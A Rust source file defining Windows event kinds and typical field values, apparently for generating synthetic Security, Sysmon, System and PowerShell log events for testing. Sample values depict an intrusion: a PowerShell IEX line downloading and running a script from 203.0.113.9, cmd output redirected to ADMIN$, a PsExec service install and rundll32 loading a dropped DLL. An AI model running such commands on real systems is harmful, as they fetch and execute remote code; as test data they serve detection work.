//! Windows events as their XML has them, before anybody writes them down.

use jiff::Timestamp;

/// A field of a kind of events.
pub(crate) struct Field {
    pub(crate) name: &'static str,
    /// It may hold any text; else it holds what Windows writes there.
    pub(crate) free: bool,
    pub(crate) typical: &'static str,
}

const fn free(name: &'static str, typical: &'static str) -> Field {
    Field { name, free: true, typical }
}

const fn fixed(name: &'static str, typical: &'static str) -> Field {
    Field { name, free: false, typical }
}

/// A kind of events: what is the same in all of them.
pub(crate) struct Kind {
    pub(crate) provider: &'static str,
    /// Upper case, without braces.
    pub(crate) guid: &'static str,
    pub(crate) channel: &'static str,
    pub(crate) code: u32,
    pub(crate) qualifiers: Option<u32>,
    pub(crate) version: u32,
    pub(crate) level: u32,
    pub(crate) task: u32,
    pub(crate) task_name: &'static str,
    pub(crate) opcode: u32,
    pub(crate) opcode_name: &'static str,
    pub(crate) keywords: u64,
    pub(crate) fields: &'static [Field],
}

/// One event.
#[derive(Clone)]
pub(crate) struct WindowsEvent {
    pub(crate) kind: &'static Kind,
    pub(crate) record: i64,
    pub(crate) time_us: i64,
    pub(crate) host: String,
    pub(crate) process: u32,
    pub(crate) thread: u32,
    /// Upper case, without braces.
    pub(crate) activity: Option<String>,
    pub(crate) user: Option<String>,
    /// In the order of the kind's fields.
    pub(crate) data: Vec<(&'static str, String)>,
}

impl std::fmt::Debug for WindowsEvent {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(out, "{} {} record {} at {} {:?}", self.kind.channel, self.kind.code, self.record, self.time_us, self.data)
    }
}

impl WindowsEvent {
    /// An event of a kind with what Windows typically writes.
    pub(crate) fn typical(kind: &'static Kind, record: i64, time_us: i64) -> Self {
        Self {
            kind,
            record,
            time_us,
            host: "host.test".to_owned(),
            process: 4,
            thread: 8,
            activity: None,
            user: None,
            data: kind.fields.iter().map(|field| (field.name, field.typical.to_owned())).collect(),
        }
    }

    /// The time in a format of strftime.
    pub(crate) fn time(&self, format: &str) -> String {
        Timestamp::from_microsecond(self.time_us).expect("a time of this century").strftime(format).to_string()
    }

    /// The value of a field; empty where the kind has none of that name.
    pub(crate) fn value(&self, name: &str) -> &str {
        self.data.iter().find(|(n, _)| *n == name).map_or("", |(_, value)| value)
    }

    /// Whether it is an event of the audit: its level is 0, and Windows shows its keyword by name.
    pub(crate) fn is_audit(&self) -> bool {
        self.kind.channel == "Security"
    }

    /// The name that Windows shows for the level.
    pub(crate) fn level_name(&self) -> &'static str {
        match self.kind.level {
            1 => "Critical",
            2 => "Error",
            3 => "Warning",
            5 => "Verbose",
            _ => "Information",
        }
    }

    /// The names that Windows shows for keywords.
    pub(crate) fn keyword_name(&self) -> Option<&'static str> {
        match self.kind.keywords & 0x00ff_ffff_ffff_ffff {
            0x0020_0000_0000_0000 => Some("Audit Success"),
            0x0010_0000_0000_0000 => Some("Audit Failure"),
            0x0080_0000_0000_0000 => Some("Classic"),
            _ => None,
        }
    }

    /// What its `System` element has beside the envelope, under the names of the store.
    pub(crate) fn system(&self) -> Vec<(&'static str, String)> {
        let kind = self.kind;
        let mut all = vec![
            ("Provider_Name", kind.provider.to_owned()),
            ("Provider_Guid", format!("{{{}}}", kind.guid)),
            ("Version", kind.version.to_string()),
            ("Level", kind.level.to_string()),
            ("Task", kind.task.to_string()),
            ("Opcode", kind.opcode.to_string()),
            ("Keywords", format!("{:#x}", kind.keywords)),
            ("Execution_ProcessID", self.process.to_string()),
            ("Execution_ThreadID", self.thread.to_string()),
        ];
        all.extend(kind.qualifiers.map(|q| ("Qualifiers", q.to_string())));
        all.extend(self.activity.as_ref().map(|guid| ("Correlation_ActivityID", format!("{{{guid}}}"))));
        all.extend(self.user.as_ref().map(|sid| ("Security_UserID", sid.clone())));
        all
    }
}

const AUDIT: Kind = Kind {
    provider: "Microsoft-Windows-Security-Auditing",
    guid: "54849625-5478-4994-A5BA-3E3B0328C30D",
    channel: "Security",
    code: 0,
    qualifiers: None,
    version: 2,
    level: 0,
    task: 12_544,
    task_name: "Logon",
    opcode: 0,
    opcode_name: "Info",
    keywords: 0x8020_0000_0000_0000,
    fields: &[],
};

const SYSMON: Kind = Kind {
    provider: "Microsoft-Windows-Sysmon",
    guid: "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
    channel: "Microsoft-Windows-Sysmon/Operational",
    version: 5,
    level: 4,
    task: 1,
    task_name: "Process Create (rule: ProcessCreate)",
    keywords: 0x8000_0000_0000_0000,
    ..AUDIT
};

/// The kinds that are generated.
pub(crate) static KINDS: [Kind; 7] = [
    Kind {
        code: 4624,
        fields: &[
            fixed("SubjectUserSid", "S-1-5-18"),
            free("SubjectUserName", "FS01$"),
            free("SubjectDomainName", "CORP"),
            fixed("SubjectLogonId", "0x3e7"),
            fixed("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"),
            free("TargetUserName", "anna"),
            free("TargetDomainName", "CORP"),
            fixed("TargetLogonId", "0x5d2f11"),
            fixed("LogonType", "3"),
            fixed("LogonGuid", "{B8C3A477-69DB-D96F-F0C0-889CCECB69EE}"),
            fixed("ProcessId", "0x1a4"),
            free("ProcessName", "C:\\Windows\\System32\\services.exe"),
            free("WorkstationName", "WS07"),
            fixed("IpAddress", "fe80::5d54:ed5a:760f:c4ff"),
            fixed("IpPort", "50412"),
            free("LogonProcessName", "NtLmSsp "),
            fixed("AuthenticationPackageName", "NTLM"),
            fixed("TransmittedServices", "-"),
            fixed("LmPackageName", "NTLM V2"),
            fixed("KeyLength", "128"),
        ],
        ..AUDIT
    },
    Kind {
        code: 4688,
        task: 13_312,
        task_name: "Process Creation",
        keywords: 0x8010_0000_0000_0000,
        fields: &[
            fixed("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-500"),
            free("SubjectUserName", "anna"),
            free("SubjectDomainName", "CORP"),
            fixed("SubjectLogonId", "0x5d2f11"),
            fixed("TargetUserSid", "S-1-0-0"),
            free("TargetUserName", "-"),
            free("TargetDomainName", "-"),
            fixed("TargetLogonId", "0x0"),
            fixed("NewProcessId", "0x1f4"),
            free("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
            fixed("TokenElevationType", "%%1936"),
            fixed("MandatoryLabel", "S-1-16-12288"),
            fixed("ProcessId", "0x2b8"),
            free("ParentProcessName", "C:\\Windows\\explorer.exe"),
            free("CommandLine", "\"C:\\Windows\\System32\\cmd.exe\" /c whoami > \\\\127.0.0.1\\ADMIN$\\out 2>&1"),
        ],
        ..AUDIT
    },
    Kind {
        code: 5145,
        version: 0,
        task: 12_811,
        task_name: "Detailed File Share",
        fields: &[
            fixed("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"),
            free("SubjectUserName", "anna"),
            free("SubjectDomainName", "CORP"),
            fixed("SubjectLogonId", "0x5d2f11"),
            fixed("ObjectType", "File"),
            fixed("IpAddress", "10.20.0.44"),
            fixed("IpPort", "50412"),
            free("ShareName", "\\\\*\\ADMIN$"),
            free("ShareLocalPath", "\\??\\C:\\Windows"),
            free("RelativeTargetName", "Temp\\help.dll"),
            fixed("AccessMask", "0x2"),
            fixed("AccessReason", "-"),
        ],
        ..AUDIT
    },
    Kind {
        provider: "Service Control Manager",
        guid: "555908D1-A6D7-4695-8E1E-26931D2012F4",
        channel: "System",
        code: 7045,
        qualifiers: Some(16_384),
        version: 0,
        level: 4,
        task: 0,
        task_name: "None",
        keywords: 0x8080_0000_0000_0000,
        fields: &[
            free("ServiceName", "Backup Agent"),
            free("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
            fixed("ServiceType", "user mode service"),
            fixed("StartType", "demand start"),
            fixed("AccountName", "LocalSystem"),
        ],
        ..AUDIT
    },
    Kind {
        code: 1,
        fields: &[
            free("RuleName", "-"),
            fixed("UtcTime", "2021-04-21 09:40:32.343"),
            fixed("ProcessGuid", "{5BE6F2D1-65C1-0000-0010-00000001E240}"),
            fixed("ProcessId", "4711"),
            free("Image", "C:\\Windows\\System32\\rundll32.exe"),
            free("Description", "Windows host process (Rundll32)"),
            free("Company", "Microsoft Corporation"),
            free("CommandLine", "rundll32.exe C:\\ProgramData\\help.dll,Run \"a b\""),
            free("User", "CORP\\anna"),
            fixed("LogonId", "0x5d2f11"),
            fixed("TerminalSessionId", "1"),
            fixed("IntegrityLevel", "High"),
            fixed("Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E"),
            free("ParentImage", "C:\\Windows\\explorer.exe"),
            free("ParentCommandLine", "C:\\Windows\\Explorer.EXE"),
            fixed("ParentProcessId", "1234"),
        ],
        ..SYSMON
    },
    Kind {
        code: 3,
        task: 3,
        task_name: "Network connection detected (rule: NetworkConnect)",
        fields: &[
            free("RuleName", "technique_id=T1021,technique_name=Remote Services"),
            fixed("UtcTime", "2021-04-21 09:40:32.343"),
            fixed("ProcessGuid", "{5BE6F2D1-65C1-0000-0010-00000001E240}"),
            fixed("ProcessId", "4"),
            free("Image", "System"),
            free("User", "NT AUTHORITY\\SYSTEM"),
            fixed("Protocol", "tcp"),
            fixed("Initiated", "true"),
            fixed("SourceIsIpv6", "false"),
            fixed("SourceIp", "10.20.0.44"),
            free("SourceHostname", "ws07.corp.example"),
            fixed("SourcePort", "50412"),
            free("DestinationHostname", "fs01.corp.example"),
            fixed("DestinationIp", "10.20.0.11"),
            fixed("DestinationPort", "445"),
        ],
        ..SYSMON
    },
    Kind {
        provider: "Microsoft-Windows-PowerShell",
        guid: "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
        channel: "Microsoft-Windows-PowerShell/Operational",
        code: 4104,
        version: 1,
        level: 3,
        task: 2,
        task_name: "Execute a Remote Command",
        opcode: 15,
        opcode_name: "On create calls",
        keywords: 0,
        fields: &[
            fixed("MessageNumber", "1"),
            fixed("MessageTotal", "1"),
            free("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"),
            fixed("ScriptBlockId", "9f0c2a1e-7a55-4a43-9f2f-0b1b6f6a1c10"),
            free("Path", ""),
        ],
        ..AUDIT
    },
];
